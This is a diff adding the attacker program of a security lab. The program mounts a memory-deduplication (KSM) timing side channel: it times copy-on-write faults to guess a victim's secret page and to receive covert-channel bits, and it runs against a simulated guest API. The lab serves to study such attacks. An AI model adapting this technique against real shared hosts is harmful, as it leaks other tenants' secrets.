@@ -1,0 +1,105 @@
+// attacker.ts — the side-channel lab's attacker (docs/security.md), timing 1-byte writes with sys.now().
+// probe: for each trial it writes all K candidate pages, waits for ksmd, times one write per candidate
+// and names the slowest as the victim's secret (a merged page takes a copy-on-write fault).
+// covert / zero: the receiver; each round it holds the agreed pages (covert) or one all-zero page
+// (zero), and at the round's end reads a bit per page: slower than its calibrated threshold = 1.
+// Waiting: polls full_scans (sysfs is world-readable), or with wait-ms=N sleeps N ms instead (probe).
+// args: mode=probe|covert|zero seed=N trials=T candidates=K scans=S wait-ms=N bits=B period=P base=S
+import { type GuestSys } from '../../src/guest/index.ts';
+import {
+  CONTENT, PAGE, contentKey, fillPages, intArg, median, mergeableArea, parseArgs, report, timedWrite, untilScans,
+} from './attack-kit.ts';
+
+const CALIBRATION_PAIRS = 8;
+const WARM_UP_PAGES = 8;
+
+export default async function main(sys: GuestSys, argv: string[]): Promise<number> {
+  const args = parseArgs(argv);
+  const mode = args.get('mode') ?? 'probe';
+  const seed = intArg(args, 'seed', 1);
+  const trials = intArg(args, 'trials', 20);
+  if (mode === 'probe') return probe(sys, args, seed, trials);
+  return receive(sys, args, mode, seed, trials);
+}
+
+async function probe(sys: GuestSys, args: Map<string, string>, seed: number, trials: number): Promise<number> {
+  const k = intArg(args, 'candidates', 8);
+  const addr = mergeableArea(sys, trials * k);
+  fillPages(sys, addr, 0, trials * k, (i) => contentKey(seed, CONTENT.candidate, Math.floor(i / k), i % k));
+  // Warm-up pages: pairs of its own that merge, and unique ones. The first writes after a sleep
+  // cost several times a warm one (caches, JIT): they go to these, not to a candidate.
+  const warm = mergeableArea(sys, WARM_UP_PAGES);
+  fillPages(sys, warm, 0, WARM_UP_PAGES, (i) => contentKey(seed, CONTENT.calibration, i < WARM_UP_PAGES / 2 ? i >> 1 : i));
+  sys.log('READY');
+  const waitMs = args.get('wait-ms');
+  if (waitMs !== undefined) await sys.sleep(Number(waitMs));
+  else await untilScans(sys, intArg(args, 'scans', 3));
+  for (let i = 0; i < WARM_UP_PAGES; i += 2) timedWrite(sys, warm + i * PAGE, 0x5a);
+  for (let i = 1; i < WARM_UP_PAGES; i += 2) timedWrite(sys, warm + i * PAGE, 0x5a);
+  const ns: number[][] = [];
+  const guesses: number[] = [];
+  for (let t = 0; t < trials; t++) {
+    const row = Array.from({ length: k }, (_, c) => timedWrite(sys, addr + (t * k + c) * PAGE, 0xa5));
+    ns.push(row);
+    guesses.push(row.indexOf(Math.max(...row)));
+  }
+  report(sys, 'RESULT', { guesses, ns });
+  return 0;
+}
+
+/**
+ * Calibration pages, written before READY: pairs of equal pages of its own (they merge with each
+ * other whatever the victim does) and as many unique pages. Timed once at `base` full scans, they
+ * warm the fault paths; each round then brings its own pair and unique page (see receive), because
+ * a write after milliseconds of sleep costs more than one in a warm loop.
+ */
+async function calibrate(sys: GuestSys, seed: number, base: number): Promise<{ mergedNs: number; privateNs: number }> {
+  const addr = mergeableArea(sys, CALIBRATION_PAIRS * 3);
+  fillPages(sys, addr, 0, CALIBRATION_PAIRS * 3, (i) => contentKey(seed, CONTENT.calibration, i < CALIBRATION_PAIRS * 2 ? i >> 1 : i));
+  sys.log('READY');
+  await untilScans(sys, base);
+  const merged = Array.from({ length: CALIBRATION_PAIRS }, (_, i) => timedWrite(sys, addr + 2 * i * PAGE, 0x5a));
+  const unique = Array.from({ length: CALIBRATION_PAIRS }, (_, i) => timedWrite(sys, addr + (2 * CALIBRATION_PAIRS + i) * PAGE, 0x5a));
+  return { mergedNs: median(merged), privateNs: median(unique) };
+}
+
+/**
+ * Per round: two pairs of equal pages of its own (merged by the round's end) and one unique page.
+ * The first pair and the first write to the unique page only warm the paths after the sleep.
+ */
+const REFERENCE_PAGES = 5;
+
+async function receive(sys: GuestSys, args: Map<string, string>, mode: string, seed: number, trials: number): Promise<number> {
+  const bits = mode === 'zero' ? 1 : intArg(args, 'bits', 16);
+  const period = intArg(args, 'period', 4);
+  const base = intArg(args, 'base', 4);
+  const addr = mergeableArea(sys, trials * bits);
+  const refs = mergeableArea(sys, trials * REFERENCE_PAGES);
+  const cal = await calibrate(sys, seed, base);
+  const received: number[] = [];
+  const ns: number[] = [];
+  const thresholds: number[] = [];
+  const t0 = sys.now();
+  for (let r = 0; r < trials; r++) {
+    await untilScans(sys, base + r * period);
+    for (let b = 0; b < bits; b++) {
+      const page = r * bits + b;
+      if (mode === 'zero') sys.memset(addr + page * PAGE, 0, PAGE);
+      else fillPages(sys, addr, page, 1, () => contentKey(seed, CONTENT.bit, page));
+    }
+    const ref = refs + r * REFERENCE_PAGES * PAGE;
+    fillPages(sys, ref, 0, REFERENCE_PAGES, (i) => contentKey(seed, CONTENT.calibration, 1_000_000 + r, i >> 1));
+    await untilScans(sys, base + (r + 1) * period);
+    timedWrite(sys, ref + 4 * PAGE, 0x5a);
+    timedWrite(sys, ref, 0x5a);
+    const threshold = Math.sqrt(timedWrite(sys, ref + 2 * PAGE, 0x5a) * timedWrite(sys, ref + 4 * PAGE, 0x5a));
+    thresholds.push(threshold);
+    for (let b = 0; b < bits; b++) {
+      const t = timedWrite(sys, addr + (r * bits + b) * PAGE, 0xa5);
+      ns.push(t);
+      received.push(t > threshold ? 1 : 0);
+    }
+  }
+  report(sys, 'RESULT', { received, ns, seconds: (sys.now() - t0) / 1000, thresholds, ...cal });
+  return 0;
+}
